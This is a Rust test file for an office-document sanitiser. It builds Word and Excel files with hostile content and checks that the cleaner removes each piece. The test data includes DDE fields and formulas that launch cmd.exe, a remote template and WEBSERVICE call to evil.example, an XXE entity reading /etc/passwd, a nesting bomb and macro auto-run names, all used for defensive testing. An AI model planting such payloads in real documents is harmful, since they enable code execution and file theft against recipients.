//! Office files that want something: each story makes one, takes it through both halves and looks inside what came out.

#![allow(
    clippy::unwrap_used,
    clippy::print_stderr,
    clippy::format_push_string,
    reason = "a test fails loudly"
)]

mod road;

use road::forge::{Forge, unpacked};
use road::{carry, told};
use sekisho_ir::{Code, Finding, Kind, Reason};

fn word(body: &str, relations: &[(&str, &str, &str, bool)]) -> (String, Vec<Finding>) {
    through("a.docx", Forge::word(body, relations))
}

fn through(name: &str, forge: Forge) -> (String, Vec<Finding>) {
    let clean = carry(name, &forge.close()).unwrap();
    (unpacked(&clean.bytes), clean.findings)
}

const RUN: &str = "<w:r><w:t>本文</w:t></w:r>";

fn field(instruction: &[&str], result: &str) -> String {
    let mut text = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".to_owned();
    for piece in instruction {
        text.push_str(&format!(
            "<w:r><w:instrText xml:space=\"preserve\">{piece}</w:instrText></w:r>"
        ));
    }
    text.push_str("<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>");
    text.push_str(&format!(
        "<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    ));
    text
}

#[test]
fn a_dde_field_split_over_runs_leaves_only_what_it_showed() {
    let body = field(
        &[
            "DD",
            "EAUTO c:\\\\windows\\\\cmd.exe ",
            "&quot;/k calc&quot;",
        ],
        "見えた文字",
    );
    let (text, findings) = word(&body, &[]);
    assert!(text.contains("見えた文字"));
    assert!(!text.contains("cmd.exe") && !text.contains("fldChar") && !text.contains("DD"));
    assert_eq!(told(&findings, Code::DdeRemoved), 1);
}

#[test]
fn a_field_hidden_in_a_fields_instruction_goes_with_it() {
    let inner = field(&["QUOTE 68 68 69"], "秘密");
    let inner = inner.trim_start_matches("<w:p>").trim_end_matches("</w:p>");
    let body = format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r>{inner}\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>{RUN}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    );
    let (text, findings) = word(&body, &[]);
    assert!(text.contains("本文") && !text.contains("秘密") && !text.contains("fldChar"));
    assert_eq!(told(&findings, Code::FieldFrozen), 2);
}

#[test]
fn fields_that_only_count_and_name_stay() {
    let (text, _) = word(&field(&[" PAGE ", " \\* MERGEFORMAT "], "3"), &[]);
    assert!(text.contains(" PAGE ") && text.contains("MERGEFORMAT"));
}

#[test]
fn a_field_that_never_ends_leaves_no_mark() {
    let body = format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>{RUN}</w:p>"
    );
    let (text, _) = word(&body, &[]);
    assert!(!text.contains("instrText"));
}

#[test]
fn templates_objects_controls_and_chunks_are_gone_and_told() {
    let body = format!(
        "<w:p>{RUN}<w:r><w:object><v:shape style=\"width:10pt;height:10pt\"/><o:OLEObject ProgID=\"Package\" r:id=\"rId2\"/></w:object></w:r></w:p>\
         <w:altChunk r:id=\"rId3\"/><w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>"
    );
    let forge = Forge::word(
        &body,
        &[
            (
                "rId1",
                "attachedTemplate",
                "http://evil.example/t.dotm",
                true,
            ),
            ("rId2", "oleObject", "embeddings/o.bin", false),
            ("rId3", "aFChunk", "chunk.html", false),
            ("rId4", "hyperlink", "file://server/share/x.exe", true),
            ("rId5", "vbaProject", "vbaProject.bin", false),
            ("rId6", "font", "fonts/f.odttf", false),
            (
                "rId7",
                "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
                "c.xml",
                false,
            ),
        ],
    )
    .part("word/embeddings/o.bin", b"MZ")
    .part("word/chunk.html", b"<script>")
    .part("word/vbaProject.bin", b"not a project");
    let (text, findings) = through("a.docm", forge);
    for gone in [
        "evil",
        "oleObject",
        "OLEObject",
        "embeddings",
        "altChunk",
        "chunk",
        "server",
        "vbaProject",
        "odttf",
        "External",
        "script",
    ] {
        assert!(!text.contains(gone), "{gone}");
    }
    assert!(text.contains("本文") && text.contains("リンク"));
    for code in [
        Code::ExternalLinkRemoved,
        Code::EmbeddedObjectRemoved,
        Code::LinkMadeText,
        Code::MacroRemoved,
        Code::EmbeddedFontRemoved,
        Code::AddInRemoved,
    ] {
        assert!(told(&findings, code) > 0, "{code}");
    }
}

#[test]
fn a_workbook_with_macros_comes_out_plain_and_computes() {
    let rows = "<row r=\"1\"><c r=\"A1\"><f>SUM(B1:B9)</f><v>3</v></c><c r=\"B1\"><f>cmd|' /C calc'!A0</f><v>7</v></c>\
                <c r=\"C1\"><f>WEBSERVICE(\"http://evil.example\")</f><v>8</v></c><c r=\"D1\"><f>[1]S!A1</f><v>9</v></c>\
                <c r=\"E1\"><f>Macro1!A1</f><v>10</v></c>\
                <c r=\"F1\"><f t=\"shared\" ref=\"F1:F2\" si=\"0\">CALL(\"k\")</f><v>11</v></c><c r=\"F2\"><f t=\"shared\" si=\"0\"/><v>12</v></c></row>";
    let names = "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>\
                 <definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">表!$A$1:$C$9</definedName>\
                 <definedName name=\"x\" localSheetId=\"1\">表!$A$1</definedName></definedNames>";
    let forge = Forge::sheet(
        rows,
        names,
        &[
            (
                "rId2",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                "macrosheets/sheet1.xml",
                false,
            ),
            (
                "rId3",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                false,
            ),
            (
                "rId4",
                "externalLink",
                "externalLinks/externalLink1.xml",
                false,
            ),
        ],
    )
    .part(
        "xl/macrosheets/sheet1.xml",
        b"<xm:macrosheet xmlns:xm=\"x\"/>",
    )
    .part("xl/externalLinks/externalLink1.xml", b"<externalLink/>");
    let clean = carry("様式.xlsm", &forge.close()).unwrap();
    assert_eq!(clean.kind, Kind::Xlsx);
    let text = unpacked(&clean.bytes);
    assert!(text.contains("SUM(B1:B9)") && text.contains("_xlnm.Print_Area"));
    for value in ["3", "7", "8", "9", "10", "11", "12"] {
        assert!(text.contains(&format!("<v>{value}</v>")), "{value}");
    }
    for gone in [
        "calc'",
        "WEBSERVICE",
        "[1]",
        "Macro1",
        "CALL",
        "si=",
        "Auto_Open",
        "macroEnabled",
        "vba",
        "externalLink",
        "\"x\"",
    ] {
        assert!(!text.contains(gone), "{gone}");
    }
    let count = |code| {
        clean
            .findings
            .iter()
            .find(|f| f.code == code)
            .map_or(0, |f| f.count)
    };
    assert_eq!(count(Code::FormulasKept), 1);
    assert_eq!(count(Code::PrintAreaKept), 1);
    assert_eq!(count(Code::SheetsKept), 1);
    assert_eq!(count(Code::DdeRemoved), 1);
    assert!(count(Code::MacroRemoved) >= 3);
    assert!(count(Code::FormulaFrozen) >= 3);
}

#[test]
fn entities_and_bombs_hold_the_file() {
    let xxe = "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    let mut forge = Forge::word("<w:p/>", &[]);
    forge = forge.replace("word/document.xml", |text| format!("{xxe}{text}"));
    assert_eq!(
        carry("a.docx", &forge.close()).unwrap_err(),
        Reason::Malformed
    );
    let deep = format!("{}{}", "<w:tbl>".repeat(5_000), "</w:tbl>".repeat(5_000));
    assert_eq!(
        carry("a.docx", &Forge::word(&deep, &[]).close()).unwrap_err(),
        Reason::TooDeep
    );
}

#[test]
fn an_address_where_a_number_should_stand_is_no_value() {
    let body = "<w:p><w:bookmarkStart w:id=\"file:///c:/cmd.exe\" w:name=\"a\"/>\
                <w:bookmarkEnd w:id=\"\\\\evil.example\\x\"/><w:r><w:t>文</w:t></w:r></w:p>";
    let (text, _) = word(body, &[]);
    assert!(text.contains('文') && !text.contains("cmd.exe") && !text.contains("evil"));
}

#[test]
fn a_part_with_a_second_root_holds_the_file() {
    let forge = Forge::word("<w:p/>", &[]).replace("word/document.xml", |text| text.repeat(2));
    assert_eq!(
        carry("a.docx", &forge.close()).unwrap_err(),
        Reason::Malformed
    );
}

#[test]
fn a_text_box_of_old_keeps_its_text_and_a_cell_its_paragraph() {
    let body = "<w:p><w:r><w:pict><v:shape style=\"width:100pt;height:50pt\" onclick=\"x\"><v:textbox><w:txbxContent>\
                <w:p><w:r><w:t>箱の中</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>\
                <w:tbl><w:tr><w:tc><w:altChunk r:id=\"r\"/></w:tc></w:tr></w:tbl>";
    let (text, _) = word(body, &[]);
    assert!(text.contains("箱の中") && text.contains("<v:textbox>") && !text.contains("onclick"));
    assert!(text.contains("<w:tc><w:p/></w:tc>"));
}

#[test]
fn words_and_attributes_nobody_knows_fall_silent() {
    let body = "<w:p w:rsidR=\"00AA\" onload=\"x\"><x:evil xmlns:x=\"urn:x\"><w:r><w:t>中</w:t></w:r></x:evil>\
                <w:r><w:t>外\u{202e}</w:t></w:r></w:p>";
    let (text, _) = word(body, &[]);
    assert!(text.contains("外") && !text.contains("中"));
    assert!(
        !text.contains("evil")
            && !text.contains("onload")
            && !text.contains("rsid")
            && !text.contains('\u{202e}')
    );
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]
    #[test]
    fn no_change_of_bytes_makes_it_panic_or_refused(changes in proptest::collection::vec((0_usize..4_000, proptest::num::u8::ANY), 1..6)) {
        let mut bytes = Forge::word(&field(&["PAGE"], "1"), &[("rId1", "styles", "styles.xml", false)]).close();
        let length = bytes.len();
        for (at, value) in changes {
            bytes[at % length] = value;
        }
        if let Err(reason) = carry("a.docx", &bytes) {
            proptest::prop_assert_ne!(reason, Reason::WriterRefused);
        }
    }

    #[test]
    fn no_markup_makes_it_panic_or_refused(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
        let body = pieces.concat();
        if let Err(reason) = carry("a.docx", &Forge::word(&body, &[]).close()) {
            proptest::prop_assert_ne!(reason, Reason::WriterRefused);
        }
    }
}

const PIECES: &[&str] = &[
    "<w:p>",
    "</w:p>",
    "<w:r>",
    "</w:r>",
    "<w:t>a</w:t>",
    "<w:fldChar w:fldCharType=\"begin\"/>",
    "<w:fldChar w:fldCharType=\"separate\"/>",
    "<w:fldChar w:fldCharType=\"end\"/>",
    "<w:instrText>PAGE</w:instrText>",
    "<w:instrText>DDE x</w:instrText>",
    "<w:pict><v:shape><v:textbox>",
    "</v:textbox></v:shape></w:pict>",
    "<w:txbxContent>",
    "</w:txbxContent>",
    "<w:drawing/>",
    "<w:tc>",
    "</w:tc>",
    "<w:fldSimple w:instr=\"DDE\">",
    "</w:fldSimple>",
    "<w:hyperlink r:id=\"r\">",
    "</w:hyperlink>",
];
